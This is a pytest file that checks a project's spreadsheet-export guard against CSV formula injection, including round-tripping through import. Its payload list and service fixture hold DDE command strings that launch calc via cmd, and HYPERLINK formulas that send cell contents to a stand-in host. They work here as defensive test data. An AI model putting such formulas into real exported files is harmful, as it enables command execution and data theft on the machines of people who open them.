"""Issue 16, item 6: the spreadsheet formula guard cannot be bypassed. Every exported cell that starts with `=`,
`+`, `-`, `@`, a tab or a carriage return is guarded unless it is a plain number, and the import takes exactly
that guard off again (fieldkit.interop.formula)."""

from __future__ import annotations

import csv
import io

import pytest

from fieldkit.interop.formula import guard, unguard
from fieldkit.interop.writers import cell

BYPASSES = ["-1+cmd|' /C calc'!A0", "-1+HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0",
            "-(1)+cmd|' /C calc'!A0", "+.5+HYPERLINK(\"http://x.example\")", "=1+1", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "-", "+", "--1", "+1 1", "-1e5+1", "+387 61 000 000"]
PLAIN = ["-1", "+3", "-12.5", "+.5", "-1e5", "1+1", "44.82", "Bihać", ""]


@pytest.mark.parametrize("text", BYPASSES)
def test_every_formula_is_guarded(text):
    assert cell(text) == "'" + text and unguard(cell(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_numbers_and_text_are_left_alone(text):
    assert guard(text) == text and unguard(text) == text


SERVICE = """---
id: svc-hostile-cells
type: service
title: "-1+HYPERLINK(\\"http://x.example\\")"
summary: Fictional test data.
country: BA
kind: [legal-aid]
organisation: "-1+cmd|' /C calc'!A0"
place: bihac
hours: "+.5+HYPERLINK(\\"http://x.example\\")"
access: "-(1)+cmd|' /C calc'!A0"
contact:
  address: "+1+cmd|' /C calc'!A0"
  phone: "+387 61 000 000"
sources:
  - doc: testdoc
    where: line 8
    quote: "Free legal aid is offered in Bihać."
as_of: 2024-07
checked: 2026-11-01
---
Fictional test data.
"""


def test_export_guards_and_import_reads_back(cli, content, tmp_path):
    (content / "service" / "svc-hostile-cells.en.md").write_text(SERVICE, encoding="utf-8")
    assert cli("check", "--content", content).code == 0
    db = tmp_path / "hostile-cells.db"
    assert cli("build", "--content", content, "--out", db).code == 0
    for fmt in ("hxl", "csv"):
        out = tmp_path / f"services.{fmt}.csv"
        assert cli("export", "--type", "service", "--format", fmt, "--db", db, "-o", out).code == 0
        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
        for row in rows:
            for value in row:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or guard(value) == value, value
        assert any(value == "'-1+cmd|' /C calc'!A0" for row in rows for value in row)
    # The partner's sheet comes back: the guard is taken off, so the content is unchanged.
    sheet = tmp_path / "services.hxl.csv"
    report = cli("import", "services", sheet, "--content", content, "--dry-run", "--json")
    assert report.code == 0, report.err
    import json

    rows = {row["id"]: row["status"] for row in json.loads(report.out)["rows"]}
    assert rows["svc-hostile-cells"] == "unchanged", report.out
